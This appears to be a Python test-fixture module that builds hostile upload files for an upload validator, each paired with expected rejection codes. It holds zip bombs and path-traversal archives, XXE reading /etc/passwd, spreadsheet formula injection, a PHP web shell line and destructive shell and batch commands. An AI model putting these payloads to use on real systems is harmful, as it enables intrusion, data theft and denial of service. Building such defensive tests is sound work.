"""Files that somebody might send to do harm, each with the codes one of which must refuse it.

`handmade()`: one trick each, as they are described for office documents, archives, PDF, pictures and
names (OWASP's list for uploads; MITRE ATT&CK T1559.002 on DDE; PKWARE's description of zip).
`mutations()`: honest files, damaged by chance from a seed.
"""

from __future__ import annotations

import gzip
import io
import random
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

import pikepdf
from PIL import Image

from tests.office.files.document_tricks import (
    DRAWING,
    OLE,
    PAGE,
    PROGRAM,
    Row,
    excel_tricks,
    open_document_tricks,
    pdf_tricks,
    word_tricks,
)
from tests.office.files.honest import (
    HONEST,
    csv,
    docx,
    jpeg,
    odt_members,
    pack,
    pdf,
    png,
    word_members,
)


@dataclass(frozen=True)
class Hostile:
    """One file; `codes` are those of which at least one must be told."""

    name: str
    data: bytes
    trick: str
    codes: frozenset[str]


def handmade() -> list[Hostile]:
    found: list[Hostile] = []
    for make in (
        _disguises,
        _names,
        _archives,
        _bombs,
        word_tricks,
        excel_tricks,
        open_document_tricks,
        pdf_tricks,
        _pictures,
        _plain,
    ):
        for name, data, trick, codes in make():
            found.append(Hostile(name, data, trick, frozenset(f"CH-{one}" for one in codes.split())))
    return found


def _disguises() -> Iterator[Row]:
    contents = {
        "program": PROGRAM, "page": PAGE, "drawing": DRAWING, "old office": OLE,
        "shell": b"#!/bin/sh\nrm -rf ~\n", "php": b"<?php system($_GET['c']);", "rich text": b"{\\rtf1 x}",
        "archive": pack({"a.txt": b"a"}), "gzip": gzip.compress(b"a" * 50), "tar": _tar(),
        "gif with script": b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)", "elf": b"\x7fELF" + b"\2" * 60,
        "mail": b"From: a\nMIME-Version: 1.0\n\n<html>", "xml": b'<?xml version="1.0"?><a/>',
        "java": b"\xca\xfe\xba\xbe" + b"\0" * 40, "rar": b"Rar!\x1a\x07\0" + b"\0" * 40,
        "heic": b"\0\0\0\x18ftypheic" + b"\0" * 60, "nothing known": bytes(range(256)) * 4,
    }  # fmt: skip
    for trick, content in contents.items():
        for ending in ("pdf", "docx", "xlsx", "odt", "jpg", "png", "csv", "txt"):
            yield f"tep.{ending}", content, f"{trick} as {ending}", "7403 7404 7408 7420 7421"
    honest = {name.rpartition(".")[2].lower(): make() for name, make in HONEST.items()}
    for kind, content in honest.items():
        for ending in (
            "pdf",
            "docx",
            "xlsx",
            "ods",
            "odt",
            "jpg",
            "png",
            "csv",
            "exe",
            "html",
            "svg",
            "docm",
            "",
        ):
            if ending != kind and {ending, kind} != {"csv", "txt"}:
                name = f"tep.{ending}" if ending else "tep"
                yield name, content, f"{kind} called {ending}", "7404 7403 7420 7421"
    for ending in ("pdf", "docx", "jpg", "txt"):
        yield f"tep.{ending}", b"", "empty", "7401"
        yield f"tep.{ending}", b"\0" * 1000, "zero bytes", "7403 7420 7404"


def _tar() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        archive.addfile(tarfile.TarInfo("a"))
    return out.getvalue()


def _names() -> Iterator[Row]:
    content = pdf()
    for name in (
        "bao\u202efdp.exe.pdf", "a\u2066b.pdf", "a\u200bb.pdf", "a\0.pdf", "a\n.pdf",
        "a\r\nSet-Cookie: x=1.pdf", "../../etc/passwd.pdf", "..\\..\\x.pdf", "/etc/x.pdf", "C:\\x.pdf",
        "CON.pdf", "nul.pdf", "LPT1.tep.pdf",
        "com9.pdf", "a:b.pdf", 'a"b.pdf', "a|b.pdf", "a<b>.pdf", "a?.pdf", "*.pdf", ".htaccess.pdf", ".pdf",
        "a.pdf.", "x" * 200 + ".pdf", "ế" * 90 + ".pdf", "hoa don.exe.pdf", "a.js.pdf", "a.html.pdf",
        "\ud800.pdf", "a\u2028b.pdf", "a\ufeff.pdf", "a\x7f.pdf", "prn", "",
    ):  # fmt: skip
        yield name, content, "name", "7405"


def _archives() -> Iterator[Row]:
    """Tricks with the archive itself, on a Word document."""
    plain = word_members()
    for evil in (
        "../../x.xml",
        "/x.xml",
        "word\\x.xml",
        "C:x.xml",
        "word/./x.xml",
        "word//x.xml",
        "a/../b.xml",
    ):
        yield "a.docx", pack(plain | {evil: b"<a/>"}), f"path {evil}", "7417"
    yield "a.docx", pack(plain | {"WORD/document.xml": b"<a/>"}), "same name in capitals", "7417"
    yield "a.docx", _twice(plain), "same name twice", "7417"
    yield "a.docx", _with_link(plain), "symbolic link", "7417"
    good = docx()
    yield "a.docx", good + PROGRAM, "program behind", "7407 7408"
    yield "a.docx", good + b"\0", "a byte behind", "7407 7408"
    yield "a.docx", b"PK\x03\x04" + good, "something before", "7417"
    yield "a.pdf", pdf() + good, "PDF and zip", "7407"
    yield "a.docx", pdf() + good, "PDF and zip called Word", "7407"
    yield "a.jpg", good, "zip as picture", "7404"
    yield "a.docx", good[:-22] + good[-22:-2] + b"\4\0abcd", "comment", "7417 7408 7407"
    yield "a.docx", _flags(good, 0x1), "encrypted", "7409"
    yield "a.docx", _flags(good, 0x40), "strongly encrypted", "7409"
    yield "a.docx", _method(good, 12), "unusual packing", "7417"
    yield "a.docx", _central_name(good), "two names for one member", "7417"
    yield "a.docx", _zip64(good), "zip64", "7417"
    yield "a.docx", _overlap(), "members over one another", "7417"
    yield "a.docx", _gap(good), "hidden between members", "7417"
    yield "a.docx", _size_lie(good), "a size that lies", "7417 7408"
    for count in (5_000, 20_000):
        yield (
            "a.docx",
            pack(plain | {f"word/x{n}.xml": b"" for n in range(count)}),
            "too many members",
            "7416",
        )
    yield "a.docx", pack(plain | {"word/a.zip": pack({"a": b"b"})}), "archive inside", "7413"
    yield "a.docx", pack(plain | {"word/media/a.png": pack({"a": b"b"})}), "archive as picture inside", "7413"
    yield "a.docx", pack(plain | {"word/media/a.png": PROGRAM}), "program as picture inside", "7413"
    yield "a.docx", pack(plain | {"word/a.exe": PROGRAM}), "program inside", "7413"
    yield "a.docx", pack(plain | {"word/embeddings/a.docx": good}), "document inside", "7413"
    yield "a.docx", pack({"word/document.xml": plain["word/document.xml"]}), "no types", "7403"
    both = pack(plain | odt_members())
    yield "a.docx", both, "Word and OpenDocument", "7407"


def _twice(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in [*members.items(), ("word/documenu.xml", b"<evil/>")]:
            archive.writestr(name, content)
    return out.getvalue().replace(b"word/documenu.xml", b"word/document.xml")


def _with_link(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in members.items():
            archive.writestr(name, content)
        link = zipfile.ZipInfo("word/link.xml")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return out.getvalue()


def _flags(data: bytes, bit: int) -> bytes:
    changed = bytearray(data)
    at = data.index(b"PK\x01\x02")
    changed[at + 8] |= bit
    changed[6] |= bit
    return bytes(changed)


def _method(data: bytes, method: int) -> bytes:
    changed = bytearray(data)
    changed[data.index(b"PK\x01\x02") + 10] = method
    changed[8] = method
    return bytes(changed)


def _central_name(data: bytes) -> bytes:
    at = data.rindex(b"word/document.xml")
    return data[:at] + b"word/documenu.xml" + data[at + 17 :]


def _zip64(data: bytes) -> bytes:
    end = data[-22:]
    record = struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, 5, 5, 0, 0)
    locator = struct.pack("<4sLQL", b"PK\x06\x07", 0, len(data) - 22, 1)
    return data[:-22] + record + locator + end


def _overlap() -> bytes:
    """Two rows of the directory that lead to the same bytes, as in a bomb without nesting."""
    data = docx()
    at, end = data.index(b"PK\x01\x02"), len(data) - 22
    row = data[at : data.index(b"PK\x01\x02", at + 4)]
    again = row.replace(b"[Content_Types].xml", b"[Content_Typez].xml")
    _, _, _, count, _, size, start, _ = struct.unpack("<4s4H2LH", data[end:])
    last = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count + 1, count + 1, size + len(again), start, 0)
    return data[:end] + again + last


def _gap(data: bytes) -> bytes:
    """Bytes that no member owns, before the directory."""
    end = len(data) - 22
    mark, a, b, count, total, size, start, comment = struct.unpack("<4s4H2LH", data[end:])
    last = struct.pack("<4s4H2LH", mark, a, b, count, total, size, start + len(PAGE), comment)
    return data[:start] + PAGE + data[start:end] + last


def _size_lie(data: bytes) -> bytes:
    """Directory and header both say that the first member is ten bytes long."""
    changed = bytearray(data)
    struct.pack_into("<L", changed, 22, 10)
    struct.pack_into("<L", changed, data.index(b"PK\x01\x02") + 24, 10)
    return bytes(changed)


def _bombs() -> Iterator[Row]:
    plain = word_members()
    yield "a.docx", pack(plain | {"word/x.xml": b"<a>" + b" " * 30_000_000 + b"</a>"}), "zip bomb", "7416"
    yield "a.odt", pack(odt_members() | {"Pictures/a.png": b"\0" * 40_000_000}), "zip bomb", "7416"
    lol = '<!DOCTYPE a [<!ENTITY a "ha">' + "".join(
        f'<!ENTITY {chr(98 + n)} "{"&" + chr(97 + n) + ";" * 1}{("&" + chr(97 + n) + ";") * 9}">'
        for n in range(9)
    )
    for part in ("word/document.xml", "[Content_Types].xml", "_rels/.rels", "word/extra.xml"):
        bomb = f"<?xml version='1.0'?>{lol}]><a>&i;</a>".encode()
        yield "a.docx", pack(plain | {part: bomb}), f"entities in {part}", "7418"
        outside = b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
        yield "a.docx", pack(plain | {part: outside}), f"entity from a file in {part}", "7418"
    yield "a.odt", pack(odt_members() | {"content.xml": f"{lol}]><a>&i;</a>".encode()}), "entities", "7418"
    deep = b"<a>" * 200_000 + b"</a>" * 200_000
    yield "a.docx", pack(plain | {"word/x.xml": deep}), "nested deeply", "7408"
    yield "a.docx", pack(plain | {"word/x.xml": "<a/>".encode("utf-7") + b"\xff"}), "bad XML", "7408"
    yield "a.png", _huge_png(), "picture of a thousand million dots", "7419"
    yield "a.pdf", _pdf_bomb(), "PDF that unpacks to gigabytes", "7416 7410"
    nested = b"[" * 30_000 + b"]" * 30_000
    yield (
        "a.pdf",
        pdf().replace(b"/Type /Catalog", b"/X " + nested + b"/Type /Catalog"),
        "PDF nested deeply",
        "7408 7410",
    )


def _huge_png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">L", len(data)) + kind + data + struct.pack(">L", zlib.crc32(kind + data))

    head = struct.pack(">2L5B", 40_000, 40_000, 8, 2, 0, 0, 0)
    dots = zlib.compress(b"\0" * 1_000_000)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", dots) + chunk(b"IEND", b"")


def _pdf_bomb() -> bytes:
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(b"\0" * 10_000_000) for _ in range(70)) + packer.flush()

    def add(document: pikepdf.Pdf) -> None:
        stream = document.make_stream(b"")
        stream.write(packed, filter=pikepdf.Name.FlateDecode)
        document.Root.Bomb = stream

    out = pdf(change=add)
    return out


def _pictures() -> Iterator[Row]:
    for name, data in (("a.jpg", jpeg()), ("a.png", png())):
        yield name, data[: len(data) // 2], "half a picture", "7408"
        yield name, data[:30], "the start of a picture", "7408"
    moving = io.BytesIO()
    frames = [Image.new("RGB", (20, 20), colour) for colour in ("red", "blue", "green")]
    frames[0].save(moving, "PNG", save_all=True, append_images=frames[1:])
    yield "a.png", moving.getvalue(), "moving picture", "7419"
    for kind in ("GIF", "BMP", "TIFF", "WEBP", "ICO"):
        out = io.BytesIO()
        frames[0].save(out, kind)
        yield "a.png", out.getvalue(), f"{kind} called png", "7403 7404 7408 7420"
        yield "a.jpg", out.getvalue(), f"{kind} called jpg", "7403 7404 7408 7420"


def _plain() -> Iterator[Row]:
    for cell in (
        "=cmd|'/c calc'!A0", "+cmd|'/c calc'!A0", "-2+3+cmd|'/c calc'!A0", "@SUM(1)+cmd|'/c'!A0", '=HYPERLINK("http://x","y")',
        '=WEBSERVICE("http://x"&A1)', '=IMPORTXML("http://x","//a")', "\t=DDE(1)", '"=cmd|\'/c calc\'!A0"',
    ):  # fmt: skip
        for line in (f"a,{cell},b", f"a;{cell};b", f"a\t{cell}", cell):
            yield "a.csv", csv() + line.encode(), f"command in a cell {cell}", "7415"
    for ending in ("csv", "txt"):
        for data, trick, codes in (
            ("Báo cáo".encode("utf-16"), "UTF-16", "7420"),
            ("Báo cáo\r\n".encode("cp1258", "replace") + b"\xe9", "old Vietnamese", "7420"),
            (b"a\x1b[31mb", "control signs of a terminal", "7420"),
            (b"a\0b", "zero inside", "7420"),
            ("a\u202eb".encode(), "turned direction", "7420"),
            (PAGE, "page", "7421"), (b"a\n" * 100 + PAGE, "page further down", "7421"),
            (DRAWING, "drawing", "7421"),
            (b"x" * 300_000, "endless line", "7408"), (b"\xc0\xafa", "overlong UTF-8", "7420"),
            (b"[InternetShortcut]\nURL=file://x", "shortcut", "7421"),
            (b"@echo off\r\ndel *", "batch", "7421"),
        ):  # fmt: skip
            yield f"a.{ending}", data, trick, codes


def mutations(count: int, seed: int) -> list[tuple[str, str, bytes]]:
    """(name, original kind, bytes) of honest files damaged by chance: the same for the same seed."""
    chance = random.Random(seed)
    originals = [(name, make()) for name, make in HONEST.items()]
    return [(*_named(name), _damage(data, chance)) for name, data in chance.choices(originals, k=count)]


def _named(name: str) -> tuple[str, str]:
    return name, name.rpartition(".")[2].lower()


def _damage(data: bytes, chance: random.Random) -> bytes:
    changed = bytearray(data)
    for _ in range(chance.choice((1, 1, 2, 3, 8, 40))):
        at = chance.randrange(len(changed)) if changed else 0
        match chance.randrange(7):
            case 0 | 1:
                changed[at : at + 1] = bytes([chance.randrange(256)])
            case 2:
                del changed[at : at + chance.randrange(1, 60)]
            case 3:
                changed[at:at] = chance.choice(
                    (PAGE, PROGRAM[:8], b"\0", b"PK\x03\x04", b"/JS (a)", b"%%EOF")
                )
            case 4:
                del changed[at:]
            case 5:
                other = chance.randrange(len(changed) + 1)
                changed[at:at] = changed[other : other + chance.randrange(1, 200)]
            case _:
                changed[at : at + 1] = bytes([changed[at] ^ (1 << chance.randrange(8))]) if changed else b""
    return bytes(changed)
